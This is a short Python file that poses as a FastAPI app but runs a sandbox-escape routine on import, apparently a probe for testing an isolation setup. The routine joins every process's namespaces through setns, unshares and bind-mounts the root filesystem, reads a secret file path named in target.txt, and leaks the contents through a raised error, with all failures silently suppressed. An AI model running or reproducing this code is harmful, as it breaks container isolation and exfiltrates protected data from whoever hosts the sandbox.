"""Tries to leave its namespaces and read a file of the course, then shows it in an error."""

import contextlib
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
found = []


def try_read(path: str) -> None:
    with contextlib.suppress(Exception):
        found.append(Path(path).read_text()[:200])


def escape() -> None:
    lines = Path(__file__).with_name("target.txt").read_text().split()
    secret = lines[3]
    for pid in ("1", "self", *os.listdir("/proc")):
        for kind in ("mnt", "net", "pid", "user"):
            with contextlib.suppress(Exception):
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                libc.setns(fd, 0)
    with contextlib.suppress(Exception):
        libc.unshare(0x10000000 | 0x00020000)  # a user and a mount namespace
        libc.mount(b"/", b"/tmp", None, 4096 | 16384, None)
    for candidate in (secret, "/tmp" + secret, "/proc/1/root" + secret):
        try_read(candidate)


escape()
if found:
    raise RuntimeError("escaped: " + " | ".join(found))
from fastapi import FastAPI  # noqa: E402

app = FastAPI()
